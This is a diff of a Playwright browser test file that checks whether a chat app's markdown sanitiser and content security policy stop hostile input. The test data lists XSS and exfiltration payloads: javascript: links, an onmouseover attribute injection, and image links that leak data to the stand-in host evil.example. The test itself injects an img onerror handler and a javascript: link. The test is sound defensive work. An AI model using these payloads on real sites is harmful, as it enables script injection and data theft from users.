@@ -4,7 +4,7 @@ from collections.abc import AsyncIterator
 from typing import Final
 
 import pytest
-from playwright.async_api import Browser, expect
+from playwright.async_api import Browser, Route, expect
 
 from tests.browser.page_visitor import PageChat
 from tests.support.server import ServerProcess
@@ -56,7 +56,7 @@ HOSTILE: Final = [
     "[a](//evil.example/x)",
     "[a](v1/sessions)",
     f"[a][r]\n\n[r]: javascript:{_BAD}",
-    f"[a](https://evil.example/ \"x' onmouseover={_BAD}\")",
+    f'[a](https://evil.example/ "x\' onmouseover={_BAD}")',
     "![a](https://evil.example/leak?q=secret)",
     "![a][r]\n\n[r]: https://evil.example/leak",
     "![a](//evil.example/leak)",
@@ -121,7 +121,13 @@ async def test_the_policy_alone_holds(chromium: Browser, steady_server: ServerPr
     """As if the sanitiser were not there: what reaches the document as HTML, or is put there, does nothing."""
     context = await chromium.new_context()
     elsewhere: list[str] = []
-    context.on("request", lambda sent: elsewhere.append(sent.url) if "evil.example" in sent.url else None)
+
+    async def leave(route: Route) -> None:
+        elsewhere.append(route.request.url)
+        await route.abort()
+
+    # A route and not "request", which tells of those that the policy stops in the renderer, too.
+    await context.route("https://evil.example/**", leave)
     chat = await PageChat(await context.new_page(), steady_server.url).open()
     refused = await chat.page.evaluate(
         """() => {
@@ -133,7 +139,7 @@ async def test_the_policy_alone_holds(chromium: Browser, steady_server: ServerPr
         """() => {
             const image = document.createElement("img");
             image.src = "https://evil.example/leak";
-            image.setAttribute("onerror", "window.hacked = 1");
+            try { image.setAttribute("onerror", "window.hacked = 1") } catch { /* refused, too */ }
             const link = Object.assign(document.createElement("a"), { href: "javascript:window.hacked=1" });
             document.body.append(image, link);
             link.click();
